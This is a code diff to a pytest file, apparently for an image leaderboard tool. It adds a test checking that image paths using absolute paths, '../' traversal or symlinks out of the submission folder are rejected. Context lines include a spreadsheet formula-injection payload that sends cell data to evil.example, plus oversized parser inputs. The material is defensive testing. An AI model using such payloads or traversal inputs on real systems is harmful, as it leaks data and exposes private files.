@@ -19,6 +19,8 @@ from PIL import Image
 
 from pipeline_helpers import run_cli
 
+from .corpus import write
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 DEEP = "[" * 100_000 + "]" * 100_000
 BIG_INT = "9" * 5000
@@ -243,12 +245,7 @@ BAD_JSON = {
 
 
 def write_bad(path: Path, kind: str) -> Path:
-    content = BAD_JSON[kind]
-    if isinstance(content, bytes):
-        path.write_bytes(content)
-    else:
-        path.write_text(content)
-    return path
+    return write(path, BAD_JSON[kind])
 
 
 @pytest.mark.parametrize("kind", list(BAD_JSON))
@@ -373,3 +370,24 @@ def test_a_site_built_inside_the_results_folder_is_not_read_as_results(run, caps
         assert run_cli(["leaderboard", "build", str(run.parent), "--out", str(site), "-q"], capsys)[0] == 0
     # The second build must not pick up site/data/*.json, the copies of the first, as submissions.
     assert sorted(p.name for p in (site / "rows").glob("*.html")) == ["compare-gligen.html"]
+
+
+def test_a_published_page_shows_only_images_under_the_submission(tmp_path):
+    from types import SimpleNamespace
+
+    from leaderboard.details import resolve_image
+
+    submission = tmp_path / "run"
+    (submission / "images").mkdir(parents=True)
+    Image.new("RGB", (8, 8)).save(submission / "images" / "ok.png")
+    private = tmp_path / "private"
+    private.mkdir()
+    Image.new("RGB", (8, 8), "purple").save(private / "secret.png")
+    (submission / "images" / "link.png").symlink_to(private / "secret.png")
+    result = SimpleNamespace(resolve=lambda root: None, source=submission / "result.json")
+    row = SimpleNamespace(images_root=None)
+    scores = submission / "scores.jsonl"
+    assert resolve_image("images/ok.png", result, row, scores) == submission / "images" / "ok.png"
+    assert resolve_image(str(submission / "images" / "ok.png"), result, row, scores) is not None
+    for hostile in (str(private / "secret.png"), "../private/secret.png", "images/link.png"):
+        assert resolve_image(hostile, result, row, scores) is None, hostile
